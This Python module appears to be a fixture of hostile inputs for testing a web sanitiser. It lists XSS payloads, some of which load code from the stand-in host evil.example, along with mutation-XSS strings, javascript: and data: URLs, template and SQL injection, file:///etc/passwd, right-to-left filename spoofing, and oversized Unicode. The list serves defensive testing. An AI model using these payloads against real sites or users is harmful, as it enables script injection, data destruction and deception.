"""What nobody should send, and somebody will: by kind, as values.

Whatever of it runs calls ``__xss``. NUL and lone surrogates are not in here: no server takes them.
Characters that cannot be seen, or that turn the text around them, are written as escapes.
"""

MARKUP = [
    "<script>__xss(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script type=module>import('//evil.example/x.js')</script>",
    "</p></article><script>__xss(1)</script>",
    "<img src=x onerror=__xss(1)>",
    "<img src='//evil.example/pixel.gif'>",
    "<img srcset='//evil.example/pixel.gif 1x'>",
    "<svg onload=__xss(1)>",
    "<svg><script>__xss(1)</script></svg>",
    "<svg><animate onbegin=__xss(1) attributeName=x dur=1s>",
    "<svg><set attributeName=onmouseover to=__xss(1)>",
    "<svg><a xlink:href='javascript:__xss(1)'><text y=20>press</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=__xss(1)>#x'></svg>",
    "<math><mtext><img src=x onerror=__xss(1)></mtext></math>",
    "<math href='javascript:__xss(1)'>press</math>",
    "<iframe src='javascript:__xss(1)'></iframe>",
    "<iframe srcdoc='<script>parent.__xss(1)</script>'></iframe>",
    "<object data='javascript:__xss(1)'></object>",
    "<embed src='javascript:__xss(1)'>",
    "<template><img src=x onerror=__xss(1)></template>",
    "<video><source onerror=__xss(1)></video>",
    "<audio src=x onerror=__xss(1)>",
    "<body onload=__xss(1)>",
    "<details open ontoggle=__xss(1)>",
    "<input autofocus onfocus=__xss(1)>",
    "<marquee onstart=__xss(1)>",
    "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:__xss(1)'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<style>@import '//evil.example/x.css'; * { display: none }</style>",
    "<div style='position:fixed;inset:0;background:url(//evil.example/x)'>covered</div>",
    "<form action='javascript:__xss(1)'><button>press</button></form>",
    "<button popovertarget=x onbeforetoggle=__xss(1)>press</button>",
    "<a href='javascript:__xss(1)'>press</a>",
    "<p title='</p><img src=x onerror=__xss(1)>'>",
    "<!--<img src=--><img src=x onerror=__xss(1)>-->",
]
"""Elements and handlers, as HTML has them."""
MUTATING = [
    "<noscript><p title='</noscript><img src=x onerror=__xss(1)>'>",
    "<svg></p><style><a id='</style><img src=x onerror=__xss(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=__xss(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=__xss(1)>",
    "<select><template><style><!--</style><a rel='--></style></template></select><img src=x onerror=__xss(1)>'>",
    "<listing>&lt;img src=x onerror=__xss(1)&gt;</listing>",
    "<xmp><p title='</xmp><img src=x onerror=__xss(1)>'>",
]
"""What changes its meaning when it is parsed, written and parsed again."""
BROKEN = [
    "<img src=x onerror=__xss(1)//",
    "<img/src=x/onerror=__xss(1)>",
    "<img\tsrc=x\nonerror=__xss(1)>",
    '<img """><script>__xss(1)</script>">',
    "<<script>__xss(1)//<</script>",
    '"><img src=x onerror=__xss(1)>',
    "'><svg/onload=__xss(1)>",
    '" onmouseover=__xss(1) x="',
    "' autofocus onfocus=__xss(1) x='",
    "]]><script>__xss(1)</script>",
    "<scr<script>ipt>__xss(1)</scr</script>ipt>",
    "%3Cscript%3E__xss(1)%3C/script%3E",
    "\\u003cscript\\u003e__xss(1)\\u003c/script\\u003e",
]
"""Attributes and tags as no writer closes them."""
ENTITIES = [
    "&lt;script&gt;__xss(1)&lt;/script&gt;",
    "&#60;img src=x onerror=__xss(1)&#62;",
    "&#x3C;img src=x onerror=__xss(1)&#x3E",
    "&amp;lt;b&amp;gt; &nbsp; &hearts; &NotAnEntity;",
    "&colon;&lpar;&rpar;&Tab;&NewLine;",
]
ADDRESSES = [
    "javascript:__xss(1)",
    "JaVaScRiPt:__xss(1)",
    "java\tscript:__xss(1)",
    "java\nscript:__xss(1)",
    "javascript://example.org/%0a__xss(1)",
    "data:text/html,<script>__xss(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5fX3hzcygxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "blob:https://example.org/0",
    "//evil.example/x",
    "https://example.org/?q=javascript:__xss(1)",
    'https://example.org/"onmouseover=__xss(1)',
    "https://example.org/'><img src=x onerror=__xss(1)>",
    "https://user:password@evil.example#@example.org/",
    "https://xn--80ak6aa92e.com/ http://example.org:80\\@evil.example",
    "xhttps://example.org HTTPS://EXAMPLE.ORG hTTp://example.org",
]
"""What might become a link, and of what only the web may."""
TEMPLATES = [
    "{{constructor.constructor('__xss(1)')()}}",
    "${__xss(1)} #{__xss(1)} <%= __xss(1) %> {% debug %} {{7*7}}",
    "[press](javascript:__xss(1))",
    '![x](x"onerror="__xss(1))',
    "<https://example.org/> [a]: javascript:__xss(1)",
    "*bold* _it_ ~no~ `code` ```\n__xss(1)\n```",
    "expression(__xss(1)); background:url(javascript:__xss(1)); -moz-binding:url(x)",
    "'; DROP TABLE message; --",
    "__proto__ constructor toString",
    '{"type":"message","content":"x"}',
]
"""What templates, Markdown, styles, databases and programs read."""
TURNING = [
    "\u202egnp.elcihpargotohp\u202c.exe",
    "\u202eeverything behind it runs the other way",
    "\u202a\u202b\u202d\u202eopened and never closed",
    "\u2066\u2067\u2068isolated and never closed",
    "\u2069\u2069\u2069\u202c\u202c closed and never opened",
    "\u200f\u200e\u061c",
    "abc \u05d0\u05d1\u05d2 123 \u0627\u0644\u0639\u0631\u0628\u064a\u0629 def",
    "\u0645\u0631\u062d\u0628\u0627 https://example.org/\u05d0?a=1 \u05e9\u05dc\u05d5\u05dd",
]
"""Text that runs from right to left, or says that what stands around it does."""
SHAPES = [
    "a\u200b\u200c\u200d\u2060\ufeffb",
    "\u200b" * 1000,
    "\u2800\u3164\u115f\uffa0",
    "e" + "\u0301" * 4095,
    "Z\u0351\u036b\u0343\u036a\u0302a\u034f\u0328\u034el\u0358\u0329g\u0322o\u0321" * 50,
    "w" * 4096,
    "https://example.org/" + "a" * 4000,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 \U0001f3f4\u200d\u2620\ufe0f",
    "\U0001f469\U0001f3fd\u200d\U0001f4bb" * 200,
    "\U0001f1e6" * 201,
    "\ufdfd" * 40,
    "\U000e0041\U000e0042\U000e007f\ufe00\ufe0f\U000e0100",
    "\ufffe\uffff\ufdd0\U0010ffff\ue000",
    "one\r\ntwo\rthree\x0bfour\x0cfive\x85six\u2028seven\u2029eight",
    "\x01\x02\x07\x08\x1b[31mred\x1b[0m\x7f\x9b",
    "a\t\t\tb        c\u00a0\u00a0\u3000d",
    "\n".join("line" for _ in range(400)),
    "\u0f3c\u0f3d\u0e49\u0e49\u0e49\u0e49\u0e49\u0e49\u0e49\u0e49\u0e49\u0e49",
    "\u0c1c\u0c4d\u0c1e\u200c\u0c3e \u0628\u0651\u0650\u0644\u064f\u0644\u0651\u0635",
    "\u210c\u212d \ufb03 \u2126 \u00c5 A\u030a \u1e9b\u0323",
]
"""Letters that are too many, too tall, too long, or not to be seen."""
ALL = [*MARKUP, *MUTATING, *BROKEN, *ENTITIES, *ADDRESSES, *TEMPLATES, *TURNING, *SHAPES]
